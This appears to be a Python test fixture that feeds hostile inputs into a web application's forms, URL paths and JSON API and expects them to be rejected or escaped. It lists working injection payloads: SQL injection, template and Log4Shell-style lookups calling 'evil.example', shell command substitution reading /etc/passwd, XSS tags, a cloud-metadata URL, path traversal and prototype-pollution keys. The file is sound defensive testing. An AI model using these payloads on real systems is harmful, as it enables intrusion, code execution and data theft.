"""Code in the place of a value: SQL, templates, shells, tags, formulas, private names."""

from __future__ import annotations

import json

from tests.contracts.test_terminal import HOSTILE_ANSWERS, HOSTILE_BYTES
from tests.hostile.table import ADVISER, JSON, Hostile

SQL = (
    "' OR '1'='1",
    "1; DROP TABLE estimator_assessment;--",
    "1 UNION SELECT password FROM auth_user",
    "1) OR pg_sleep(10)--",
    "'||(SELECT sqlite_version())||'",
)
CODE = (
    "{{ settings.SECRET_KEY }}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "${jndi:ldap://evil.example/a}",
    "$(cat /etc/passwd)",
    "`id`",
    "__import__('os').system('id')",
    "0x41414141",
    "1e999",
    "NaN",
    "-1",
    "9" * 400,
    "1\x00",
)
TAGS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "<!--#exec cmd='id'-->",
    "<?php system('id'); ?>",
    "<iframe src='http://169.254.169.254/'>",
    "<a href='javascript:alert(1)'>x</a>",
)
UNSEEN = ("a\x00b", "a\r\nSet-Cookie: x=1", "\u202egnp.exe", "a\u200bb", "\ufeffa", "a\x1b[31m")
PRIVATE = ("__proto__", "constructor", "prototype", "__class__", "__globals__", "toString")

NUMBERS = [
    Hostile(f"{text[:40]!r} as employees", "POST", "{company}", 422, {"employees": text})
    for text in SQL + CODE
]
CHOICES = [
    Hostile(f"{text[:40]!r} as industry", "POST", "{company}", 422, {"industry": text})
    for text in SQL + TAGS[:3]
]
# What was typed is put back into its field: tags escaped, the unseen as it came.
NAMES = [
    Hostile(f"{text!r} as company", "POST", "{company}", 422, {"company_name": text}, never=never)
    for text, never in [*((tag, tag) for tag in TAGS), *((text, "") for text in UNSEEN)]
]
RECIPIENTS = [
    Hostile(
        f"{text!r} as recipient of {page}",
        "POST",
        f"{{a}}/{page}/",
        422,
        {"recipient": text, "days": "7", "helper": "other", "sections": "finance"},
        never=text if text in TAGS else "",
    )
    for page in ("share", "ask")
    for text in TAGS[:3] + UNSEEN[:3]
]
LABELS = [
    Hostile(f"{text!r} as price list", "POST", "/prices/", 422, {"label": text}, never=text)
    for text in TAGS[:4]
]
IN_THE_PATH = [
    Hostile(f"{text!r} as {place}", "GET", place.replace("*", text), 404)
    for place in ("{a}/*/", "/method/*/", "/method/*/figures.json", "{a}/quote/*/")
    for text in ("'--", "1%3BDROP", "%3Cscript%3E", "..%2f..%2fetc", "%7B%7B7*7%7D%7D", "x%00")
]
SEARCHED = [
    Hostile(f"{text!r} searched for", "GET", "/account/", 200, {"q": text}, who=ADVISER, never=text)
    for text in (TAGS[0], '"><script>alert(1)</script>', "' onmouseover='alert(1)")
]
OPTIONS = [
    Hostile(f"{text!r} as edition", "POST", f"{{api}}?edition={text}", 422, b"{}", JSON)
    for text in ("'--", "..%2f..%2fetc%2fpasswd", "%00", "%F0%9F%92%A9", "__proto__")
]
ANSWERS = [
    Hostile(
        f"API: {what}",
        "POST",
        "{api}",
        422,
        json.dumps({"incident_type": "malware"} | {key: value}).encode(),
        JSON,
    )
    for what, (key, value) in HOSTILE_ANSWERS.items()
]
TOO_LARGE = {"larger than 256 kB": 413}
UNREADABLE = (
    "empty", "not json", "not utf-8", "NaN", "Infinity", "minus Infinity",
    "an exponent beyond all numbers", "deeper than any profile", "a key twice", "trailing words",
    "a 10,000-digit number",
)  # fmt: skip
BYTES = [
    Hostile(
        f"API: {what}",
        "POST",
        "{api}",
        TOO_LARGE.get(what, 400 if what in UNREADABLE else 422),
        content,
        JSON,
    )
    for what, content in HOSTILE_BYTES.items()
]
KEYS = [
    Hostile(
        f"API: the private name {name}",
        "POST",
        "{api}",
        422,
        json.dumps({"incident_type": "malware", name: {"isAdmin": True}}).encode(),
        JSON,
    )
    for name in PRIVATE
]
ROWS = [
    *NUMBERS, *CHOICES, *NAMES, *RECIPIENTS, *LABELS, *IN_THE_PATH, *SEARCHED, *OPTIONS, *ANSWERS,
    *BYTES, *KEYS,
]  # fmt: skip
